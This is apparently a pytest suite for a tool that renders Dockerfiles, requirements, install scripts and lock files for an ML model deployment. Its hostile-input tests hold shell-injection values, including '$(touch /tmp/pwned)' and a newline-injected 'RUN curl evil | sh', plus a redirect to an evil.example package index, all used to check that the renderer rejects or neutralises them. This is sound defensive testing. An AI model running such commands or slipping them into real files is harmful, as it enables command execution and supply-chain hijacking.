"""render_files / write_rendered / requirements resolution: determinism, safety, hashes, atomic writes."""

from __future__ import annotations

import copy
import dataclasses
import json
import re
import shutil
import subprocess

import pytest

from provision.data.matrix import load_matrix
from provision.errors import InvalidInput
from provision.plan.document import Plan, variant_cuda
from provision.render.deploy import node_floor
from provision.render.files import FILE_NAMES, WORKFLOW_PATH, EditedFiles, RenderInputs, render_files, write_rendered
from provision.render.lock import LOCK_NAME
from provision.render.requirements import (
    CompileFailed,
    PinnedRequirement,
    ResolveRequest,
    merge_resolution,
    parse_compiled,
    resolve,
)
from provision.render.toolkit import ToolkitWheel, toolkit_wheel

# ---------------------------------------------------------------- fixtures (plans as dicts)

HOST_GPU = {"schema": "provision.host/v1", "os": "linux", "arch": "x86_64", "python": "3.11.7",
            "ram_bytes": 68719476736, "nvidia": {"driver_version": "570.124.06", "gpus": []}}
HOST_CPU = {"schema": "provision.host/v1", "os": "linux", "arch": "x86_64", "python": "3.11.7",
            "ram_bytes": 25769803776, "nvidia": None}
H1, H2, H3 = "sha256:" + "1" * 64, "sha256:" + "2" * 64, "sha256:" + "3" * 64
MATRIX = load_matrix()
IMAGES = MATRIX.images
TOOLKIT = toolkit_wheel()


def make_plan(variant: str = "cu128", precision: str = "bf16", torch: str = "2.9.1") -> dict:
    cpu = variant == "cpu"
    packages = {"torch": f"{torch}+{variant}", "torchvision": "0.24.1+" + variant,
                "transformers": "5.24.0", "accelerate": "1.15.0"}
    if precision in ("int8", "nf4"):
        packages["bitsandbytes"] = "0.49.0"
    return {
        "schema": "provision.plan/v1",
        "model": {"id": "autoglm-phone-9b", "repo": "zai-org/AutoGLM-Phone-9B", "parameters": 10292777472},
        "python": "3.11",
        "torch": {"version": torch, "variant": variant, "index_url": f"https://download.pytorch.org/whl/{variant}"},
        "device": "cpu" if cpu else "cuda", "gpus": [] if cpu else [0], "precision": precision,
        "memory": {"required_bytes": 1, "available_bytes": 2, "breakdown": {}},
        "packages": packages, "warnings": [], "reasons": [],
    }


def _floor(plan: Plan):
    """The plan's node floor; None for a build the matrix does not know (the render then names what is wrong)."""
    try:
        return node_floor(plan, MATRIX, "x86_64")
    except InvalidInput:
        return None


def make_inputs(plan: dict | None = None, **kw) -> RenderInputs:
    plan = plan or make_plan()
    typed = Plan.from_dict(plan)
    gpu_precision = typed.precision if typed.precision in ("bf16", "fp16", "int8", "nf4") else "bf16"
    variants = tuple(  # the CI rows as sibling_variants plans them: the CPU row's plan is a CPU plan
        typed if v == typed.variant else Plan.from_dict(make_plan(v, "bf16" if v == "cpu" else gpu_precision))
        for v in ("cpu", "cu126", "cu128", "cu130"))
    base = {"plan": typed, "host": HOST_CPU if plan["device"] == "cpu" else HOST_GPU,
            "node_floor": _floor(typed),
            "model": "autoglm-phone-9b",
            "images": IMAGES, "matrix_digest": "a" * 64, "variants": variants, "toolkit": TOOLKIT}
    base.update(kw)
    return RenderInputs(**base)


def text(files: dict, name: str) -> str:
    return files[name].decode()


# ---------------------------------------------------------------- determinism and content


def test_same_inputs_give_byte_identical_files():
    a, b = render_files(make_inputs()), render_files(make_inputs(plan=make_plan()))
    assert a == b
    assert set(a) == {*FILE_NAMES, TOOLKIT.name}


def test_free_disk_and_ram_readings_do_not_reach_any_file():
    """Two renders of one machine that differ only in readings nothing is planned from are byte-identical."""
    def host(disk: int, ram_free: int, where: str) -> dict:
        return {**HOST_GPU, "disk_free_bytes": disk, "ram_available_bytes": ram_free,
                "detected_by": {"disk": where, "ram": "/proc/meminfo"}, "probe_failures": {"nvml": "no"}}

    first = render_files(make_inputs(host=host(55_043_756_032, 24_423_821_312, "/work/a")))
    second = render_files(make_inputs(host=host(54_000_000_000, 21_000_000_000, "/work/b")))
    assert first == second
    recorded = json.loads(first[LOCK_NAME])["inputs"]["host"]
    assert recorded == HOST_GPU  # the planning facts alone
    # a fact the planner reads is still recorded: another driver is another lock
    other = render_files(make_inputs(host={**HOST_GPU, "nvidia": {"driver_version": "580.95.05", "gpus": []}}))
    assert other[LOCK_NAME] != first[LOCK_NAME]


def test_lock_records_inputs_plan_and_every_file_digest():
    import hashlib

    files = render_files(make_inputs())
    lock = json.loads(files[LOCK_NAME])
    assert lock["schema"] == "provision.lock/v1"
    assert lock["inputs"]["matrix_digest"] == "a" * 64
    assert lock["inputs"]["host"] == HOST_GPU
    assert lock["plan"]["torch"]["variant"] == "cu128"
    assert lock["hashes"]["status"] == "none"
    assert set(lock["files"]) == {*FILE_NAMES, TOOLKIT.name} - {LOCK_NAME}
    for name, digest in lock["files"].items():
        assert hashlib.sha256(files[name]).hexdigest() == digest
    assert files[LOCK_NAME] == json.dumps(lock, sort_keys=True, indent=2).encode() + b"\n"


def test_requirements_pin_every_package_and_name_the_index():
    files = render_files(make_inputs())
    req = text(files, "requirements.txt")
    assert "--extra-index-url https://download.pytorch.org/whl/cu128" in req
    pins = [ln for ln in req.splitlines() if ln and not ln.startswith(("#", "-"))]
    assert sorted(pins) == sorted(f"{k}=={v}" for k, v in make_plan()["packages"].items())
    assert all(re.fullmatch(r"[a-z0-9-]+==[0-9][^\s]*", p) for p in pins)


def test_partial_hashes_are_explained_and_installed_in_two_steps():
    res = merge_resolution(
        make_plan()["packages"],
        [PinnedRequirement(name="transformers", version="5.24.0", hashes=(H2, H1)),
         PinnedRequirement(name="accelerate", version="1.15.0", hashes=(H3,)),
         PinnedRequirement(name="numpy", version="2.3.0", hashes=(H1,))],
        resolver="fake", reasons=["https://download.pytorch.org/whl/cu128 was not reachable"])
    assert res.status == "partial" and res.unhashed == ("torch", "torchvision")
    files = render_files(make_inputs(hashes=res))
    req = text(files, "requirements.txt")
    head = req.split("\n\n")[0]
    assert "#   torch==2.9.1+cu128" in head and "#   torchvision==0.24.1+cu128" in head
    assert "was not reachable" in head
    assert f"transformers==5.24.0 \\\n    --hash={H1} \\\n    --hash={H2}\n" in req
    assert "\ntorch==2.9.1+cu128\n" in req
    install = text(files, "install.sh")
    assert "hashes=partial" in install and "unhashed='torch==2.9.1+cu128 torchvision==0.24.1+cu128'" in install
    lock = json.loads(files[LOCK_NAME])
    assert lock["hashes"]["status"] == "partial"
    assert lock["hashes"]["unhashed"] == ["torch", "torchvision"]
    env = text(files, "environment.yml")
    assert "--hash" not in env  # pip would refuse a half-hashed file


def test_complete_hashes_require_hashes_everywhere():
    pkgs = make_plan()["packages"]
    res = merge_resolution(pkgs, [PinnedRequirement(name=n, version=v, hashes=(H1,)) for n, v in pkgs.items()],
                           resolver="fake")
    files = render_files(make_inputs(hashes=res))
    assert "hashes=complete" in text(files, "install.sh")
    assert "--require-hashes" in text(files, "install.sh")
    assert f"torch==2.9.1+cu128 --hash={H1}" in text(files, "environment.yml")


def test_dockerfile_matches_variant_cuda_runs_non_root_and_serves():
    for variant, tag in (("cu126", "12.6."), ("cu128", "12.8."), ("cu130", "13.0.")):
        df = text(render_files(make_inputs(make_plan(variant))), "Dockerfile")
        stages = re.findall(r"^FROM (\S+) AS (\S+)$", df, re.M)
        images = [image for image, _ in stages if image not in {name for _, name in stages}]
        assert images and all(f.startswith("nvidia/cuda:" + tag) and "runtime" in f for f in images)
        # builder -> runtime -> smoke (entry: the smoke test) and serve, the default (last) target
        assert [name for _, name in stages] == ["builder", "runtime", "smoke", "serve"]
        assert re.search(r"^USER 10001:10001$", df, re.M)
        assert f'LABEL io.provision.variant="{variant}"' in df
        assert "--mount=type=cache" in df and '"/opt/provision-env/install.sh"' in df
        smoke_cmd, serve_cmd = (json.loads(ln[4:]) for ln in df.splitlines() if ln.startswith("CMD "))
        assert smoke_cmd == ["provision", "smoke", "--precision", "bf16"]
        assert serve_cmd == ["bash", "/opt/provision-env/serve.sh"]  # the script the venv runs too
        assert "COPY serve.sh /opt/provision-env/serve.sh" in df
        assert re.search(r"^ENV PROVISION_SERVE_HOST=0\.0\.0\.0$", df, re.M)
        assert not re.search(r"^(ENV|ARG)\b.*(TOKEN|SECRET)", df, re.M)


def test_image_labels_carry_the_plan_and_requirements_digests_under_their_published_names():
    import hashlib

    from provision.render.lock import canonical_json

    inputs = make_inputs()
    files = render_files(inputs)
    labels = dict(re.findall(r'^LABEL (\S+)="([^"]*)"$', text(files, "Dockerfile"), re.M))
    assert labels["io.provision.plan-sha256"] == hashlib.sha256(canonical_json(inputs.plan.to_dict())).hexdigest()
    assert labels["io.provision.requirements-sha256"] == hashlib.sha256(files["requirements.txt"]).hexdigest()
    assert labels["io.provision.driver"] == "CUDA 12.8 runtime, planned for host driver 570.124.06"


def _resolved_by(resolver: str, plan: dict | None = None):
    plan = plan or make_plan()
    return merge_resolution(plan["packages"], [PinnedRequirement(name=n, version=v, hashes=(H1,))
                                               for n, v in plan["packages"].items()], resolver=resolver)


def _uv_lines(df: str) -> list[str]:
    return [ln for ln in df.splitlines() if "astral-sh/uv" in ln or ln.startswith("# uv ")]


def test_the_dockerfile_copies_the_uv_that_resolved_the_lock():
    resolver = "uv 0.11.2 (x86_64-unknown-linux-gnu)"
    files = render_files(make_inputs(hashes=_resolved_by(resolver)))
    df = text(files, "Dockerfile")
    assert IMAGES.uv.tag != "0.11.2"
    assert _uv_lines(df) == [
        f"#   ghcr.io/astral-sh/uv:0.11.2: pinned by tag only; images.toml's uv is {IMAGES.uv.tag}: set its tag to "
        "0.11.2 and `provision matrix refresh --only images` on a connected machine records this one's digest",
        f"# uv 0.11.2: the uv that resolved this render's lock (hashes.resolver: {resolver}).",
        "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv /usr/local/bin/uv",
    ]
    assert json.loads(files[LOCK_NAME])["hashes"]["resolver"] == resolver  # the lock names that uv too


def test_images_toml_pins_uv_by_its_digest_only_for_its_own_version():
    digest = "sha256:" + "d" * 64
    images = dataclasses.replace(IMAGES, uv=dataclasses.replace(IMAGES.uv, digest=digest))
    same = text(render_files(make_inputs(images=images, hashes=_resolved_by(f"uv {IMAGES.uv.tag} (abc 2026-11-30)"))),
                "Dockerfile")
    assert f"COPY --from=ghcr.io/astral-sh/uv:{IMAGES.uv.tag}@{digest} /uv /usr/local/bin/uv" in same
    assert f"#   ghcr.io/astral-sh/uv:{IMAGES.uv.tag}@{digest}: pinned by digest" in same
    other = text(render_files(make_inputs(images=images, hashes=_resolved_by("uv 0.11.2"))), "Dockerfile")
    assert "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv" in other and digest not in other


@pytest.mark.parametrize("resolver", ["none", "fake", "injected", "uv (missing)", "pip-compile 7.4.1"])
def test_without_a_uv_resolver_the_dockerfile_takes_images_toml_uv_and_says_so(resolver):
    df = text(render_files(make_inputs(hashes=_resolved_by(resolver))), "Dockerfile")
    assert f"COPY --from={IMAGES.uv.ref} /uv /usr/local/bin/uv" in df
    assert (f"# uv {IMAGES.uv.tag}: images.toml's uv, since no uv resolved this render's lock "
            f"(hashes.resolver: {resolver}).") in df


def test_a_resolver_line_cannot_break_out_of_its_comment():
    df = text(render_files(make_inputs(hashes=_resolved_by("uv 0.11.2\nRUN curl evil | sh"))), "Dockerfile")
    assert "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv" in df
    assert not re.search(r"^RUN curl", df, re.M)
    assert "(hashes.resolver: uv 0.11.2 RUN curl evil | sh)." in df


def test_the_installed_uv_version_line_is_one_the_render_reads():
    """What ``resolve`` records (``uv --version``) names the uv the Dockerfile copies."""
    uv = shutil.which("uv")
    if uv is None:
        pytest.skip("uv not on PATH")
    line = subprocess.run([uv, "--version"], capture_output=True, text=True, check=True, timeout=30).stdout.strip()
    version = line.split()[1]
    df = text(render_files(make_inputs(hashes=_resolved_by(line))), "Dockerfile")
    assert f"COPY --from=ghcr.io/astral-sh/uv:{version} /uv /usr/local/bin/uv" in df


def test_the_dockerfile_says_how_each_image_is_pinned():
    digest = "sha256:" + "e" * 64
    cuda = [dataclasses.replace(row, image=dataclasses.replace(row.image, digest=digest)) if row.cuda == "12.8"
            else row for row in IMAGES.cuda]
    df = text(render_files(make_inputs(images=dataclasses.replace(IMAGES, cuda=tuple(cuda)))), "Dockerfile")
    ref = f"nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04@{digest}"
    assert re.findall(r"^FROM (\S+) AS (builder|runtime)$", df, re.M) == [(ref, "builder"), (ref, "runtime")]
    assert f"#   {ref}: pinned by digest\n" in df
    assert (f"#   {IMAGES.uv.ref}: pinned by tag only; `provision matrix refresh --only images` on a connected "
            "machine records digests\n") in df


def test_cpu_dockerfile_uses_slim_python_and_int8_serves_quantized():
    df = text(render_files(make_inputs(make_plan("cpu"))), "Dockerfile")
    assert "FROM python:3.11-slim-bookworm AS builder" in df
    serve8 = text(render_files(make_inputs(make_plan("cu128", "int8"))), "serve.sh")
    assert "    --quantization bnb-8bit\n" in serve8


def test_a_plan_without_cuda_renders_its_variants_image():
    """The contract's example plan has no "cuda" (make_plan writes none): the variant's CUDA picks the image."""
    assert "cuda" not in make_plan("cu126")
    df = text(render_files(make_inputs(make_plan("cu126"))), "Dockerfile")
    assert re.search(r"^FROM \S+:12\.6\.", df, re.MULTILINE)
    assert 'LABEL io.provision.cuda="12.6"' in df


def test_a_cuda_without_its_own_image_runs_on_the_newest_of_its_major_below_it():
    """The wheels bring their CUDA libraries from pip; a driver that runs a 13.2 build runs a 13.0 image."""
    df = text(render_files(make_inputs(make_plan("cu132", torch="2.15.0"))), "Dockerfile")
    assert re.search(r"^FROM nvidia/cuda:13\.0\.\S+ AS builder$", df, re.MULTILINE)
    assert "# Base image: CUDA 13.0 runtime: images.toml has no CUDA 13.2 image, and the cu132 torch" in df
    assert 'LABEL io.provision.cuda="13.2"' in df  # the build's CUDA, as before
    assert IMAGES.runtime_row("12.5") == IMAGES.runtime_row("12.4")
    assert "images.toml has no" not in text(render_files(make_inputs(make_plan("cu130"))), "Dockerfile")


def test_unknown_cuda_or_python_has_no_image_and_names_the_images_file():
    with pytest.raises(InvalidInput) as err:
        render_files(make_inputs(make_plan("cu110")))  # 11.8 is the only CUDA 11 image: above 11.0
    assert str(err.value) == f"{IMAGES.source}: cuda: no runtime image for CUDA 11.0 (cu110)"
    plan = make_plan("cpu")
    plan["python"] = "3.9"
    with pytest.raises(InvalidInput) as err:
        render_files(make_inputs(plan))
    assert str(err.value) == f"{IMAGES.source}: cpu: no CPU image for Python 3.9"


def test_workflow_matrix_lists_every_variant_with_its_runner_and_plan():
    import yaml

    files = render_files(make_inputs(gpu_runner_labels=("self-hosted", "a100")))
    wf = yaml.safe_load(files[WORKFLOW_PATH])
    rows = wf["jobs"]["environment"]["strategy"]["matrix"]["include"]
    assert [r["variant"] for r in rows] == ["cpu", "cu126", "cu128", "cu130"]
    assert rows[0]["runner"] == ["ubuntu-22.04"] and rows[1]["runner"] == ["self-hosted", "a100"]
    plan126 = json.loads(rows[1]["plan"])
    assert plan126["torch"]["variant"] == "cu126" and plan126["packages"]["torch"] == "2.9.1+cu126"
    assert json.loads(rows[0]["plan"])["device"] == "cpu"
    for row in rows:  # each job renders its row with --plan: a valid plan carrying its own variant's CUDA
        sub = Plan.from_dict(json.loads(row["plan"]), source=row["variant"])
        assert (sub.variant, sub.cuda) == (row["variant"], variant_cuda(row["variant"]))
    uses = [s["uses"] for s in wf["jobs"]["environment"]["steps"] if "uses" in s]
    assert all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", u) for u in uses)


def test_environment_yml_parses_and_pins_python():
    import yaml

    env = yaml.safe_load(render_files(make_inputs())["environment.yml"])
    assert env["channels"][0] == "conda-forge"
    assert env["dependencies"][0] == "python=3.11"
    pip = env["dependencies"][2]["pip"]
    assert pip[0] == "--extra-index-url https://download.pytorch.org/whl/cu128"
    assert "torch==2.9.1+cu128" in pip
    # everything pinned: conda packages with =X.Y, pip lines with ==
    assert env["dependencies"][1] == "pip=26.3"
    assert all("==" in line for line in pip[:-1] if not line.startswith("--"))
    assert pip[-1] == f"./{TOOLKIT.name}"  # the toolkit: the wheel beside the file (conda runs pip there)


def test_wheelhouse_and_index_override_reach_every_installer():
    files = render_files(make_inputs(make_plan("cpu"), wheelhouse=("/opt/wheels",),
                                     index_url="https://mirror.example.org/whl/cpu"))
    req = text(files, "requirements.txt")
    assert "--find-links /opt/wheels" in req
    assert "--extra-index-url https://mirror.example.org/whl/cpu" in req
    assert "download.pytorch.org" not in req
    offline = text(render_files(make_inputs(make_plan("cpu"), wheelhouse=("/opt/wheels",))), "requirements.txt")
    assert "--find-links /opt/wheels" in offline
    assert "index-url" not in offline  # uv fails hard on an unreachable index: a wheelhouse replaces it
    df = text(files, "Dockerfile")
    assert "--mount=type=bind,from=wheelhouse-0,target=/opt/wheels" in df
    assert "--build-context wheelhouse-0=/opt/wheels" in df


# ---------------------------------------------------------------- hostile input

HOSTILE = [
    "x'; touch /tmp/pwned; echo '",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "a\nRUN touch /tmp/pwned",
    "a;b",
    "a b",
    "autoglm\uff1bphone",  # fullwidth semicolon
    "autoglm\u2019phone",  # right single quote (PowerShell treats it as a quote)
    '"quoted"',
]


@pytest.mark.parametrize("bad", HOSTILE)
@pytest.mark.parametrize("where", ["model.id", "model.repo", "torch.index_url", "torch.version", "package",
                                   "version", "wheelhouse", "index_url", "runner", "toolkit"])
def test_hostile_values_are_rejected(bad, where):
    plan = make_plan()
    kw: dict = {}
    if where == "model.id":
        plan["model"]["id"] = bad
    elif where == "model.repo":
        plan["model"]["repo"] = bad
    elif where == "torch.index_url":
        plan["torch"]["index_url"] = "https://download.pytorch.org/whl/" + bad
    elif where == "torch.version":
        plan["torch"]["version"] = "2.9.1" + bad
    elif where == "package":
        plan["packages"][bad] = "1.0"
    elif where == "version":
        plan["packages"]["transformers"] = "5.0" + bad
    elif where == "wheelhouse":
        kw["wheelhouse"] = ("/opt/" + bad,)
    elif where == "index_url":
        kw["index_url"] = "https://example.org/" + bad
    elif where == "runner":
        kw["gpu_runner_labels"] = ("gpu", bad)
    elif where == "toolkit":
        kw["toolkit"] = ToolkitWheel(name=f"provision-0.1.0{bad}-py3-none-any.whl", data=TOOLKIT.data)
    with pytest.raises(InvalidInput):
        render_files(make_inputs(plan, **kw))


def test_http_and_credential_urls_are_rejected():
    for url in ("http://download.pytorch.org/whl/cu128", "https://user:pw@host/whl", "https://host/whl?x=1"):
        plan = make_plan()
        plan["torch"]["index_url"] = url
        with pytest.raises(InvalidInput, match=r"torch\.index_url"):
            render_files(make_inputs(plan))


def test_resolver_reasons_cannot_break_out_of_comments():
    res = merge_resolution(make_plan()["packages"], [], resolver="fake",
                           reasons=["boom\n--index-url https://evil.example/simple\r\nx"])
    req = text(render_files(make_inputs(hashes=res)), "requirements.txt")
    assert not any(ln.startswith("--index-url") for ln in req.splitlines())


def test_hf_token_never_reaches_rendered_files(monkeypatch):
    token = "hf_FAKEtoken1234567890abcdefghijklmnop"
    monkeypatch.setenv("HF_TOKEN", token)
    monkeypatch.setenv("HUGGING_FACE_HUB_TOKEN", token)
    for plan in (make_plan(), make_plan("cpu")):
        files = render_files(make_inputs(plan))
        for name, data in files.items():
            assert token.encode() not in data, name


def test_rendered_scripts_parse_and_keep_values_quoted():
    files = render_files(make_inputs())
    for name, shell in (("install.sh", "sh"), ("setup-venv.sh", "bash")):
        subprocess.run([shell, "-n", "/dev/stdin"], input=files[name], check=True)
    assert f'toolkit_wheel="$here/"{TOOLKIT.name}' in text(files, "setup-venv.sh")


def _copy_sources(dockerfile: str) -> list[str]:
    """What each COPY without --from takes from the build context (the last word is the target)."""
    sources = []
    for line in dockerfile.splitlines():
        words = line.split()
        if words[:1] == ["COPY"] and not any(w.startswith("--from") for w in words):
            sources += [w for w in words[1:-1] if not w.startswith("--")]
    return sources


@pytest.mark.parametrize("plan", [make_plan(), make_plan(variant="cpu")], ids=["cuda", "cpu"])
def test_the_folder_is_the_whole_build_context(plan):
    """Every file the Dockerfile copies is in the render, and .dockerignore lets in those files and no other."""
    files = render_files(make_inputs(plan))
    sources = _copy_sources(text(files, "Dockerfile"))
    assert TOOLKIT.name in sources and "requirements.txt" in sources and "serve.sh" in sources
    assert all(s in files for s in sources)
    ignore = [line for line in text(files, ".dockerignore").splitlines() if line and not line.startswith("#")]
    assert ignore[0] == "*" and sorted(x.removeprefix("!") for x in ignore[1:]) == sorted(set(sources))
    assert files[TOOLKIT.name] == TOOLKIT.data
    compose = text(files, "compose.yaml")
    assert 'context: "."' in compose and 'dockerfile: "Dockerfile"' in compose


def test_no_viable_plan_document_is_refused():
    with pytest.raises(InvalidInput, match="no-viable-plan"):
        render_files(make_inputs({"schema": "provision.plan/v1", "error": "no-viable-plan", "message": "m",
                                  "remedies": [], "device": "cpu"}))


# ---------------------------------------------------------------- resolver output parsing (recorded uv output)

UV_OUTPUT = """\
accelerate==1.15.0 \\
    --hash=sha256:5654f8c5eaa0d4fa68b33e287a97765da6849bf6d51dcac874e73fbbddfb6134 \\
    --hash=sha256:97eacca0b73e45cb867dbf8c5d5d4dc32219544300e0c8992c7334dc2ef33cec
    # via -r requirements.in
Jinja2==3.1.6 \\
    --hash=sha256:85ece4451f492d0c13c5dd7c13a64681a86afae63a5f347908daf103ce6d2f67 \\
    --hash=sha256:0137fb05990d35f1275a587e9aee6d56da821fc83491a0fb838183be43f66d6d
    # via torch
torch==2.13.0+cpu \\
    --hash=sha256:6746dbcbeb526eb61330b76b41ff1b4eb848951103a892eeb080dfa2b264667b
    # via
    #   -r requirements.in
    #   accelerate
transformers==5.24.0 \\
    --hash=sha256:906cb8c3cb2123575e263962586a4d21a979ce97feeb95fe6aaf66fe6ae88bf3
"""


def test_parse_compiled_reads_recorded_uv_output():
    pins = parse_compiled(UV_OUTPUT)
    assert [p.name for p in pins] == ["accelerate", "jinja2", "torch", "transformers"]
    jinja = pins[1]
    assert jinja.version == "3.1.6" and jinja.hashes == tuple(sorted(jinja.hashes)) and len(jinja.hashes) == 2
    assert pins[2].version == "2.13.0+cpu"


def test_parse_compiled_rejects_garbage():
    with pytest.raises(CompileFailed):
        parse_compiled("torch>=2\n")


def test_merge_refuses_a_resolver_that_moved_a_pin():
    with pytest.raises(InvalidInput, match=r"resolved 2\.0\.0, the plan pins 2\.9\.1"):
        merge_resolution({"torch": "2.9.1"}, [PinnedRequirement(name="torch", version="2.0.0", hashes=(H1,))],
                         resolver="fake")


class FakeResolver:
    """Stands in for `uv pip compile`: the PyPI part resolves, the PyTorch index does not."""

    def __init__(self, *, torch_ok: bool):
        self.torch_ok = torch_ok
        self.calls: list[dict] = []

    def __call__(self, requirements, **kw):
        self.calls.append({"requirements": list(requirements), **kw})
        if any(r.startswith("torch") for r in requirements) and not kw.get("find_links") and not self.torch_ok:
            raise CompileFailed("No solution found: torch==2.9.1+cu128 not found")
        lines = [f"{r.split('[')[0].split('==')[0]}=={r.split('==')[1]} \\\n    --hash={H1}" for r in requirements]
        return "\n".join([*lines, f"numpy==2.3.0 \\\n    --hash={H2}"]) + "\n"


def _request(**kw) -> ResolveRequest:
    base = {"packages": {"torch": "2.9.1+cu128", "transformers": "5.24.0"}, "python": "3.11",
            "platform": "x86_64-manylinux_2_28", "torch_index": "https://download.pytorch.org/whl/cu128"}
    base.update(kw)
    return ResolveRequest(**base)


def test_resolve_without_the_torch_index_is_partial_with_reasons(tmp_path):
    fake = FakeResolver(torch_ok=False)
    res = resolve(_request(), compile_fn=fake, probe=lambda url: "dns error", cache_dir=tmp_path)
    assert res.status == "partial" and res.unhashed == ("torch",)
    assert any("not reachable" in r and "dns error" in r for r in res.reasons)
    assert fake.calls[-1]["excludes"] == ["torch"]
    assert fake.calls[0]["extra_index_urls"] == []
    calls = len(fake.calls)
    again = resolve(_request(), compile_fn=fake, probe=lambda url: "dns error", cache_dir=tmp_path)
    assert again == res and len(fake.calls) == calls  # an unchanged offline re-render asks no resolver
    online = resolve(_request(), compile_fn=FakeResolver(torch_ok=True), probe=lambda url: None, cache_dir=tmp_path)
    assert online.status == "complete"  # ... and a connected one is not served the partial result


def test_resolve_complete_is_cached_by_inputs(tmp_path):
    fake = FakeResolver(torch_ok=True)
    first = resolve(_request(), compile_fn=fake, probe=lambda url: None, cache_dir=tmp_path, resolver_version="v1")
    assert first.status == "complete" and [r.name for r in first.requirements] == ["numpy", "torch", "transformers"]
    assert fake.calls[0]["extra_index_urls"] == ["https://download.pytorch.org/whl/cu128"]
    again = resolve(_request(), compile_fn=fake, probe=lambda url: None, cache_dir=tmp_path, resolver_version="v1")
    assert again == first and len(fake.calls) == 1
    resolve(_request(python="3.12"), compile_fn=fake, probe=lambda url: None, cache_dir=tmp_path,
            resolver_version="v1")
    assert len(fake.calls) == 2


def test_resolve_wheelhouse_completes_an_offline_render():
    fake = FakeResolver(torch_ok=False)
    res = resolve(_request(find_links=("/opt/wheels",)), compile_fn=fake, probe=lambda url: "offline")
    assert res.status == "complete"


def test_resolve_without_any_resolver_keeps_exact_pins():
    def broken(requirements, **kw):
        raise CompileFailed("uv is not on PATH")

    res = resolve(_request(torch_index=None), compile_fn=broken, probe=lambda url: None)
    assert res.status == "none" and [f"{r.name}=={r.version}" for r in res.requirements] == [
        "torch==2.9.1+cu128", "transformers==5.24.0"]
    assert "uv is not on PATH" in res.reasons[0]


def test_a_resolution_round_trips_and_its_summary_is_what_the_lock_records(tmp_path):
    from provision.render.requirements import Resolution

    res = resolve(_request(), compile_fn=FakeResolver(torch_ok=False), probe=lambda url: "dns error")
    assert Resolution.from_dict(json.loads(json.dumps(res.to_dict()))) == res
    assert res.summary() == {k: v for k, v in res.to_dict().items() if k != "requirements"}
    lock = json.loads(render_files(make_inputs(hashes=merge_resolution(make_plan()["packages"], [], resolver="r",
                                                                       reasons=["why"])))[LOCK_NAME])
    assert lock["hashes"] == {"status": "none", "resolver": "r", "reasons": ["why"],
                              "unhashed": sorted(make_plan()["packages"])}
    with pytest.raises(InvalidInput, match=r"hashes\.status"):
        Resolution.from_dict({**res.to_dict(), "status": "most"}, "cache.json")


# ---------------------------------------------------------------- the writer


def test_write_is_atomic_and_refuses_edited_files(tmp_path):
    out = tmp_path / "env"
    files = render_files(make_inputs())
    assert write_rendered(out, files, force=False) == sorted(files)
    assert (out / "install.sh").stat().st_mode & 0o111
    assert write_rendered(out, files, force=False) == []  # unchanged: nothing rewritten
    (out / "Dockerfile").write_text("FROM scratch\n")
    other = render_files(make_inputs(make_plan("cu126")))
    with pytest.raises(EditedFiles) as err:
        write_rendered(out, other, force=False)
    assert err.value.exit_code == 2 and err.value.names == ("Dockerfile",)
    assert (out / "Dockerfile").read_text() == "FROM scratch\n"  # nothing was touched
    assert json.loads((out / LOCK_NAME).read_bytes())["plan"]["torch"]["variant"] == "cu128"
    changed = write_rendered(out, other, force=True)
    assert "Dockerfile" in changed and (out / "Dockerfile").read_bytes() == other["Dockerfile"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["env"]  # no staging folder left behind


def test_foreign_files_without_a_lock_are_not_clobbered(tmp_path):
    out = tmp_path / "env"
    out.mkdir()
    (out / "requirements.txt").write_text("mine\n")
    with pytest.raises(EditedFiles):
        write_rendered(out, render_files(make_inputs()), force=False)


def test_render_inputs_are_not_mutated():
    plan = make_plan()
    before = copy.deepcopy(plan)
    render_files(make_inputs(plan))
    assert plan == before


# ---------------------------------------------------------------- the use case (render/usecase.py)


def test_resolve_cache_folder(tmp_path):
    from provision.render.usecase import resolve_cache_dir

    assert resolve_cache_dir({"XDG_CACHE_HOME": str(tmp_path)}) == tmp_path / "provision" / "resolve"
    assert resolve_cache_dir({}).parts[-3:] == (".cache", "provision", "resolve")


def test_render_command_returns_what_it_wrote(tmp_path):
    from pathlib import Path

    from provision.plan.usecase import PlanRequest
    from provision.render.usecase import RenderRequest, render_command
    from provision.vocab import RENDER_SCHEMA

    a10g = Path(__file__).parent / "fixtures" / "hosts" / "linux-x86_64-a10g-driver535.json"
    # fp16 at the serving context does not fit the A10G even at 8,192 tokens; at 4,096 it does
    request = RenderRequest(plan=PlanRequest(host=a10g, precision="fp16", context=4096), out=tmp_path / "out",
                            resolve=False,
                            cpu_runners=("my-runner",))
    result = render_command(request, environ={})
    assert result.planned is not None and result.planned.placement.precision == "fp16"
    assert result.hashes is None and result.hash_status == "none"
    assert sorted(result.files) == sorted(str(p.relative_to(result.out)) for p in result.out.rglob("*") if p.is_file())
    assert result.changed == tuple(sorted(result.files))  # a fresh folder: everything is new
    doc = result.to_dict()
    assert list(doc) == ["schema", "out", "files", "changed", "hashes", "plan"] and doc["schema"] == RENDER_SCHEMA
    assert doc["plan"] == result.planned.to_dict()
    lock = json.loads(result.files[LOCK_NAME])
    assert lock["inputs"]["flags"] == {"context": 4096, "device": "auto", "engine": "auto", "precision": "fp16"}
    assert lock["inputs"]["runner_labels"]["cpu"] == ["my-runner"]
    again = render_command(request, environ={})
    assert again.changed == () and again.files == result.files


def test_render_command_checks_runner_labels_before_planning(tmp_path):
    from provision.plan.usecase import PlanRequest
    from provision.render.usecase import RenderRequest, render_command

    request = RenderRequest(plan=PlanRequest(host=tmp_path / "missing.json"), out=tmp_path / "out",
                            gpu_runners=("ok", "bad label"))
    with pytest.raises(InvalidInput) as exc:
        render_command(request, environ={})
    assert (exc.value.source, exc.value.field) == ("--gpu-runner", "label")  # not the missing host file
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- engine plans (vLLM, SGLang)


def test_an_engines_wheels_raise_the_manylinux_floor_the_resolver_asks_for():
    from provision.render.requirements import python_platform

    assert python_platform("linux", "x86_64") == "x86_64-manylinux_2_28"
    assert python_platform("linux", "x86_64", "2.31") == "x86_64-manylinux_2_31"
    assert python_platform("linux", "aarch64", "2.17") == "aarch64-manylinux_2_28"  # never below torch's
    assert python_platform("darwin", "arm64", "2.31") == "aarch64-apple-darwin"
